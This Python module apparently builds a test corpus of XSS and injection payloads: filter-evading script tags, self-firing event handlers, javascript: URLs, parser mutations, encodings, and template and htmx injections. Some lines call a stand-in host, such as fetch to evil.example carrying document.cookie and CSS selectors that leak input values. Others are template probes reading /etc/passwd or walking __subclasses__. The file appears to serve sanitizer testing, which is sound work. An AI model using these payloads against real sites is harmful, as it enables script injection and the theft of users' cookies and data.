"""Hostile texts: each would run a script, load something or break out of its place if a page let it.

Made by joining how a script is reached (HIT) with the places markup can stand in: elements, handlers, addresses, style,
SVG and MathML, what breaks out of attributes and elements, mutations of the parser, encodings, templates, htmx.
"""

from __future__ import annotations

from itertools import product

HIT = "window.hit=1"
EVIL = "//evil.example"

# Script elements, as they are written to slip through filters
_OPENINGS: tuple[str, ...] = (
    "<script>",
    "<ScRiPt>",
    "<script >",
    "<script/x>",
    "<script\n>",
    '<script type="text/javascript">',
)
_OPENINGS += (
    "<script type=module>",
    "<script async>",
    "<svg><script>",
    "<math><script>",
    "<noscript></noscript><script>",
)
_CLOSERS = (
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "-->",
    "]]>",
    "</svg>",
    "</select>",
)
_SCRIPTS = (
    *(f"{one}{HIT}</script>" for one in (*_OPENINGS, *(f"{closer}<script>" for closer in _CLOSERS))),
    f"<<script>{HIT}//<</script>",
    f"<script>{HIT}</script ",
    f"<math><mtext></table><script>{HIT}</script>",
    f"<noscript><p title='</noscript><script>{HIT}</script>'>",
    f"<script>/*-->*/{HIT}</script>",
    f"<!--><script>{HIT}</script>-->",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"<?xml version='1.0'?><script>{HIT}</script>",
    f'<script src="{EVIL}/x.js"></script>',
    f'<script src="data:text/javascript,{HIT}"></script>',
    f"<script>fetch('{EVIL}/'+document.cookie)</script>",
)

# Elements that run a handler by themselves
_SELF = (
    ("img src=x", "onerror"),
    ("img src=x:x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg><g/", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x dur=1s", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a autofocus tabindex=1", "onfocus"),
    ("div contenteditable autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source", "onerror"),
    ("object data=x", "onerror"),
    ("embed src=x", "onerror"),
    ("iframe", "onload"),
    ("frameset", "onload"),
    ("marquee", "onstart"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("input type=image src=x", "onerror"),
    ("xss style=animation-name:x", "onanimationstart"),
    ("div style=position:fixed;inset:0", "onpointerover"),
    ("p", "onmouseover"),
)
_SHAPES = (
    "<{tag} {handler}={hit}>",
    "<{tag} {handler}='{hit}'>",
    '<{tag}/{handler}="{hit}"/>',
    "<{tag}\n{handler}\n=\n{hit}\n>",
    "<{tag} {upper}={hit}//",
)
_HANDLERS = tuple(
    shape.format(tag=tag, handler=handler, upper=handler.upper(), hit=HIT)
    for (tag, handler), shape in product(_SELF, _SHAPES)
)

# What breaks out of where a value stands
_QUOTES = ('"', "'", "`", '">', "'>", '"/>', '\\"', "&quot;", "%22", "&#34;", "\\u0022", '"\n', '" ')
_INTO = (
    f"<script>{HIT}</script>",
    f"onfocus={HIT} autofocus ",
    f"onmouseover={HIT} ",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
)
_BREAKING = (
    *(quote + into for quote, into in product(_QUOTES, _INTO)),
    *(
        f"</{place}><img src=x onerror={HIT}>"
        for place in (
            "div",
            "main",
            "option></select",
            "button",
            "p></article",
            "summary></details",
            "dialog",
            "td></table",
        )
    ),
)

# Addresses
_SCHEMES: tuple[str, ...] = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "javascript&colon;",
)
_SCHEMES += (
    "&#106;avascript:",
    "&#x6A;avascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "view-source:javascript:",
    "blob:",
)
_HOLDERS = (
    "<a href='{url}'>x</a>",
    "<a href={url}>x</a>",
    "<form action='{url}'><button>x</button></form>",
    "<button formaction='{url}'>x</button>",
    "<iframe src='{url}'></iframe>",
    "<object data='{url}'></object>",
    "<svg><a xlink:href='{url}'><text>x</text></a></svg>",
    "<meta http-equiv=refresh content='0;url={url}'>",
)
_ADDRESSES = (
    *(holder.format(url=f"{scheme}{HIT}") for scheme, holder in product(_SCHEMES, _HOLDERS)),
    *(scheme + HIT for scheme in _SCHEMES),
)

# What loads from elsewhere, or styles the page
_REMOTE = tuple(
    one.format(url=f"{EVIL}/x")
    for one in (
        "<img src={url}>",
        "<img srcset='{url} 1x'>",
        "<picture><source srcset={url}></picture>",
        "<link rel=stylesheet href={url}>",
        "<link rel=icon href={url}>",
        "<link rel=prefetch href={url}>",
        "<link rel=preconnect href={url}>",
        "<base href={url}/>",
        "<iframe src={url}></iframe>",
        "<embed src={url}>",
        "<object data={url}></object>",
        "<video poster={url}></video>",
        "<audio src={url} autoplay></audio>",
        "<track src={url}>",
        "<input type=image src={url}>",
        "<body background={url}>",
        "<table background={url}>",
        "<form action={url}><button autofocus>x</button></form>",
        "<a ping={url} href=/>x</a>",
        "<svg><use href={url}.svg#a /></svg>",
        "<svg><image href={url}></image></svg>",
        "<svg><feImage href={url} /></svg>",
        "<style>@import '{url}';</style>",
        "<style>@import url({url});</style>",
        "<style>body{{background:url({url})}}</style>",
        "<style>@font-face{{font-family:x;src:url({url})}}*{{font-family:x}}</style>",
        "<style>input[value^=a]{{background:url({url})}}</style>",
        "<style>*{{display:none}}</style>",
        "<div style='background:url({url})'>x</div>",
        "<div style='position:fixed;inset:0;background:red'>x</div>",
        "<div style=\"background-image:url('{url}')\">x</div>",
        "</style><style>*{{background:url({url})}}</style>",
        "<meta http-equiv=refresh content='0;url={url}'>",
        '<meta http-equiv=Content-Security-Policy content="script-src *">',
        "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
        "<template shadowrootmode=open><img src={url}></template>",
    )
)

# Mutations: harmless before the parser repairs them
_MUTATIONS = (
    f"<svg><style><img src=x onerror={HIT}></style></svg>",
    f"<math><style><img src=x onerror={HIT}></style></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={HIT}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    f'<svg></p><style><a id="</style><img src=x onerror={HIT}>">',
    f"<noembed><img title='</noembed><img src=x onerror={HIT}>'>",
    f"<xmp><img title='</xmp><img src=x onerror={HIT}>'>",
    f"<plaintext><img src=x onerror={HIT}>",
    f"<listing>&lt;img src=x onerror={HIT}&gt;</listing>",
    f"<table><td><svg onload={HIT}></table>",
    f"<select><template><img src=x onerror={HIT}></template></select>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={HIT}></desc></svg>",
    f"<svg><title><img src=x onerror={HIT}></title></svg>",
    f"<a><a><img src=x onerror={HIT}>",
    f'<img src="x` `<script>{HIT}</script>"` `>',
    f"<img src='x'`onerror={HIT}>",
    f"<img \x00src=x onerror={HIT}>".replace("\x00", "\x0c"),
    f"<img src=x onerror\x0c={HIT}>",
    f"<img src=x\u2028onerror={HIT}>",
    f"<\u017fcript>{HIT}</\u017fcript>",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    f"<img src=x onerror={HIT}>\u202e",
    f"\ufeff<script>{HIT}</script>",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"<img id=getElementById name=querySelector src=x onerror={HIT}>",
    "<form id=keys><input name=open></form>",
    "<a id=note name=note href=/undo/1>Undo</a>",
)


# Encodings that something might undo once too often
def _encoded(text: str) -> tuple[str, ...]:
    return (
        text.replace("<", "&lt;").replace(">", "&gt;"),
        text.replace("<", "&#60;").replace(">", "&#62;"),
        text.replace("<", "&#x3c;").replace(">", "&#x3e;"),
        text.replace("<", "&#0000060").replace(">", "&#0000062"),
        text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
        text.replace("<", "%3C").replace(">", "%3E"),
        text.replace("<", "%253C").replace(">", "%253E"),
        text.replace("<", "\\x3c").replace(">", "\\x3e"),
        text.replace("<", "\\u003c").replace(">", "\\u003e"),
        text.replace("<", "=3C").replace(">", "=3E"),
    )


_ENCODINGS = tuple(
    one
    for text in (f"<script>{HIT}</script>", f"<img src=x onerror={HIT}>", f"<svg onload={HIT}>")
    for one in _encoded(text)
)

# Templates, ours and those of others; htmx
_TEMPLATES = (
    "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "{{ t }}{{ config }}{{ hidden }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# comment #}{{ '<script>' | safe }}",
    "{day}{0.__class__}{count!r:>1000000}",
    "%(word)s%s%n",
    "${window.hit=1}",
    "#{window.hit=1}",
    "<%= window.hit=1 %>",
    "{{constructor.constructor('window.hit=1')()}}",
    "[[${window.hit=1}]]",
    f"<div hx-get='{EVIL}/x' hx-trigger='load'>x</div>",
    "<div hx-on:load='window.hit=1' hx-trigger='load' hx-get='/'>x</div>",
    "<div hx-on::after-request='window.hit=1' hx-trigger='load' hx-get='/'>x</div>",
    "<div data-hx-post='/approve/1' data-hx-trigger='load'>x</div>",
    "<div hx-vals='js:{x:window.hit=1}' hx-get='/' hx-trigger='load'>x</div>",
    "<div hx-headers='js:{x:window.hit=1}' hx-get='/' hx-trigger='load'>x</div>",
    "<div hx-get='/' hx-trigger='load[window.hit=1]'>x</div>",
    "<div hx-ext='x' hx-swap-oob='true' id='main'>x</div>",
    '<body data-stamp="x"><script>window.hit=1</script>',
    '<div data-keys="j" data-does="approve" data-to="//evil.example">x</div>',
    "<html hx-config='{\"allowEval\":true}'>",
)

GROUPS = {
    "scripts": _SCRIPTS,
    "handlers": _HANDLERS,
    "breaking out": _BREAKING,
    "addresses": _ADDRESSES,
    "remote": _REMOTE,
    "mutations": _MUTATIONS,
    "encodings": _ENCODINGS,
    "templates": _TEMPLATES,
}
PAYLOADS = tuple(dict.fromkeys(one for group in GROUPS.values() for one in group))
BITING = (*_SCRIPTS[:11], *(shape for shape in _HANDLERS if "autofocus" not in shape and "over" not in shape))
